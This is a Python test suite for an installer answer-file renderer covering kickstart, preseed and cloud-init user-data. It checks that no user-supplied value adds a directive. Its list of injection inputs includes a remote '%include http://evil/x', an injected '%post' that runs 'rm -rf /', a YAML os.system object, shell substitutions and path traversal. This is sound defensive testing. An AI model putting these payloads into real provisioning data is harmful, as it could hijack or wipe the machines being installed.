"""No value of a user adds a directive: whatever it holds, it is refused or stands where it belongs and nowhere else."""

from __future__ import annotations

import dataclasses
import re
import shlex
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from common.late_words import LateWord, placeholder
from control_plane.machines.answers import words
from control_plane.machines.answers.failures import InstallationInvalid
from control_plane.machines.answers.model import (
    Disk,
    Family,
    Installation,
    Interface,
    Layout,
    Network,
    Partition,
    Repository,
    Storage,
    User,
)
from control_plane.machines.answers.quoting import LineBroken, as_json, as_yaml, kickstart, preseed, shell
from control_plane.machines.answers.rendering import NonceKnown, render
from tests.control_plane.machines.answers.installations import (
    DEBIAN,
    KEY,
    NONCE,
    ROCKY,
    SHA512,
    UBUNTU,
    installation,
    served,
)

# What has broken out of other renderers.
_NASTY = [
    "\n%include http://evil/x",
    "x\n%post\nrm -rf /\n%end",
    "x\r\nrootpw evil",
    "x\u2028rootpw evil",
    "x\x85rootpw evil",
    'x" --plaintext --password=evil "',
    "x' --groups=wheel '",
    "x --groups=wheel",
    "--groups=wheel",
    "x # comment",
    "x\\",
    "x: y",
    "- x",
    "{a: b}",
    "!!python/object/apply:os.system [id]",
    "&a *a",
    "| >",
    "<<",
    "yes",
    "null",
    "0x1",
    "1e3",
    "$(id)",
    "`id`",
    "x; id",
    "x && id",
    "{{ token }}",
    "{% include 'x' %}",
    "d-i preseed/late_command string id",
    "../../etc/passwd",
    "http://evil/\nx",
    f"longshore-{NONCE}-token-late",
    f"end-{NONCE}",
    "\x00",
    "\ud800",
    "\t",
    " ",
    "",
]
_TEXTS = st.one_of(st.sampled_from(_NASTY), st.text(max_size=40), st.text("ab'\"\\#%$`;&|: -{}\n\r\t", max_size=20))


def _places() -> dict[str, Any]:
    """Field to a change of an installation that puts a value there."""

    def user(**fields: Any) -> Any:
        return lambda it, v: dataclasses.replace(
            it, users=(User("ops", **{name: ((v,) if name == "ssh_keys" else v) for name in fields}),)
        )

    def partition(**fields: Any) -> Any:
        def change(it: Installation, v: str) -> Installation:
            own = Partition("/", 8192)
            extra = Partition(**{"mount": "/srv", "mebibytes": 1024, **dict.fromkeys(fields, v)})
            return dataclasses.replace(it, storage=Storage(Layout.PLAIN, (Disk("/dev/sda"),), (own, extra)))

        return change

    def network(**fields: Any) -> Any:
        def change(it: Installation, v: str) -> Installation:
            given = {name: ((v,) if name == "addresses" else v) for name in fields}
            return dataclasses.replace(it, network=Network((Interface(**{"name": "eth0", "dhcp6": True, **given}),)))

        return change

    def repository(**fields: Any) -> Any:
        def change(it: Installation, v: str) -> Installation:
            suite = {} if it.system.family is Family.ROCKY else {"suite": "stable"}
            one = Repository(**{"name": "ours", "location": "/repos/x", **suite, **dict.fromkeys(fields, v)})
            return dataclasses.replace(it, repositories=(one,))

        return change

    plain = (
        "machine_id",
        "hostname",
        "domain",
        "serial",
        "mac",
        "locale",
        "keyboard",
        "timezone",
        "source",
        "operation",
    )
    made: dict[str, Any] = {name: (lambda it, v, n=name: dataclasses.replace(it, **{n: v})) for name in plain}
    lists = ("ntp_servers", "packages", "kernel_arguments", "root_ssh_keys")
    made |= {name: (lambda it, v, n=name: dataclasses.replace(it, **{n: (v,)})) for name in lists}
    made["root_password_hash"] = lambda it, v: dataclasses.replace(it, root_password_hash=v)
    made["root_ssh_keys.comment"] = lambda it, v: dataclasses.replace(it, root_ssh_keys=(f"{KEY} {v}",))
    made |= {f"user.{name}": user(**{name: None}) for name in ("full_name", "password_hash", "ssh_keys")}
    made["user.name"] = lambda it, v: dataclasses.replace(it, users=(User(v, "Name", SHA512, (KEY,)),))
    made |= {f"partition.{name}": partition(**{name: None}) for name in ("mount", "label")}
    made |= {f"interface.{name}": network(**{name: None}) for name in ("name", "mac", "addresses", "gateway4")}
    made |= {f"repository.{name}": repository(**{name: None}) for name in ("name", "location", "suite", "key")}
    made["disk.path"] = lambda it, v: dataclasses.replace(it, storage=Storage(disks=(Disk(v),)))
    made["disk.serial"] = lambda it, v: dataclasses.replace(it, storage=Storage(disks=(Disk(serial=v or "S"),)))
    made["disk.wwn"] = lambda it, v: dataclasses.replace(it, storage=Storage(disks=(Disk(wwn=v),)))
    made["nameservers"] = lambda it, v: dataclasses.replace(it, network=Network((), (v,)))
    return made


_PLACES = _places()
_MAIN = {ROCKY[1]: "ks.cfg", DEBIAN[1]: "preseed.cfg", UBUNTU[1]: "user-data"}


def _shape(text: str, name: str) -> Any:
    """What a document says to do, without the values: first words of lines, or the keys of YAML."""
    if name == "user-data":
        return _keys(yaml.load(text, Loader=yaml.CSafeLoader))
    if name == "preseed.cfg":
        return [line.split(" ")[:3] for line in text.split("\n")]
    lines = re.split(r"[\n\r\v\f\x1c-\x1e\x85\u2028\u2029]", text)
    in_section, found = False, []
    for line in lines:
        first = line.split()[0] if line.split() else ""
        if first.startswith("%"):
            in_section = first != "%end"
            found.append(first)
        elif first and not in_section and not first.startswith("#"):
            found.append((first, sorted(word.split("=")[0] for word in shlex.split(line) if word.startswith("--"))))
    return found


def _keys(value: Any) -> Any:
    if isinstance(value, dict):
        # The file of a repository is named by it.
        return {"*.list" if name.endswith(".list") else name: _keys(inner) for name, inner in value.items()}
    return [_keys(inner) for inner in value] if isinstance(value, list) else type(value).__name__


@pytest.mark.parametrize("place", list(_PLACES))
def test_no_value_changes_what_a_document_does(place: str) -> None:
    """An accepted value leaves the same directives as a harmless one of the same kind."""
    for system, name in _MAIN.items():
        base = installation(system, users=(), kernel_arguments=("quiet",), serial="SN")
        harmless = None
        for value in _NASTY:
            try:
                text = served(_PLACES[place](base, value), name)
            except (InstallationInvalid, NonceKnown):
                continue
            if value and place in _SAME_KIND:
                harmless = harmless or _shape(served(_PLACES[place](base, _SAME_KIND[place]), name), name)
                assert _shape(text, name) == harmless, (place, value)


# A value that passes everywhere; optional fields are compared to it only where they are given.
_SAME_KIND = {
    "serial": "SN2",
    "root_ssh_keys.comment": "comment",
    "user.full_name": "Name",
    "packages": "vim",
    "kernel_arguments": "quiet",
    "operation": "os",
    "user.name": "ops",
    "partition.label": "srv",
    "keyboard": "us",
    "hostname": "x",
    "machine_id": "x",
    "domain": "x",
    "ntp_servers": "x",
    "repository.name": "x",
    "repository.suite": "x",
}


@pytest.mark.parametrize(
    "place", ["hostname", "user.name", "disk.path", "disk.serial", "source", "partition.label", "packages"]
)
def test_what_is_not_one_plain_word_is_refused(place: str) -> None:
    refused = 0
    for value in _NASTY[:17]:
        with pytest.raises((InstallationInvalid, NonceKnown)):
            served(_PLACES[place](installation(ROCKY[1]), value), "ks.cfg")
        refused += 1
    assert refused == 17


@given(_TEXTS)
@settings(deadline=None)
def test_quoted_words_read_back_as_themselves(text: str) -> None:
    for quote in (kickstart, shell):
        try:
            made = quote(text)
        except LineBroken:
            assert not text.isprintable()
            continue
        assert shlex.split(f"x {made} # y", comments=True) == ["x", text]
        assert "\n" not in made


@given(_TEXTS)
@settings(deadline=None)
def test_a_preseed_value_stays_in_its_line(text: str) -> None:
    try:
        made = preseed(text)
    except LineBroken:
        return
    assert made == text
    assert len(made.splitlines()) <= 1
    assert not made.endswith("\\")


_DATA = st.recursive(
    st.one_of(_TEXTS, st.booleans(), st.integers(), st.none()),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(_TEXTS, inner, max_size=3)),
    max_leaves=8,
)


@given(_DATA)
@settings(deadline=None, max_examples=60)
def test_yaml_and_json_read_back_as_themselves(data: Any) -> None:
    if "\ud800" in repr(data) or _has_surrogate(data):
        return
    assert yaml.safe_load(as_yaml(data)) == data
    assert yaml.safe_load(as_yaml({"in": [data]})) == {"in": [data]}
    assert "\n" not in as_json(data)


def _has_surrogate(data: Any) -> bool:
    return any(0xD800 <= ord(letter) < 0xE000 for letter in str(data)) or "\\ud" in repr(data)


@given(st.text(max_size=60), st.sampled_from(list(_PLACES)))
@settings(deadline=None, max_examples=60)
def test_any_text_anywhere_is_refused_or_harmless(text: str, place: str) -> None:
    for system, name in _MAIN.items():
        base = installation(system, users=(), kernel_arguments=("quiet",))
        try:
            made = served(_PLACES[place](base, text), name)
        except (InstallationInvalid, NonceKnown):
            continue
        if text.strip() and not text.isascii() and not words.is_text(text):
            assert text not in made
        yaml.load(made, Loader=yaml.CSafeLoader) if name == "user-data" else _shape(made, name)


def test_a_value_that_knows_the_nonce_is_refused() -> None:
    stolen = placeholder(NONCE, LateWord.TOKEN)
    for change in (
        {"post_script": f"echo {stolen}\n"},
        {"variables": (("x", stolen),)},
        {"users": (User("ops", stolen),)},
        {"hostname": NONCE},
    ):
        with pytest.raises(NonceKnown):
            render(installation(DEBIAN[1], **change), nonce=NONCE)


def test_a_script_of_an_operator_cannot_leave_its_place() -> None:
    script = "%end\n%post\nend-\nEOF\nLONGSHORE_TOKEN=x\n'\n\"\n"
    for system, name in _MAIN.items():
        it = installation(system, post_script=script)
        assert script not in served(it, name)
        finish = served(it, "finish.sh")
        assert finish.count(script) == 1
        before = finish[: finish.index(script)]
        assert before.endswith(f"<<'end-{NONCE}'\nexec 2>&1\n")
        assert finish[len(before) + len(script) :].startswith(f"end-{NONCE}\n")
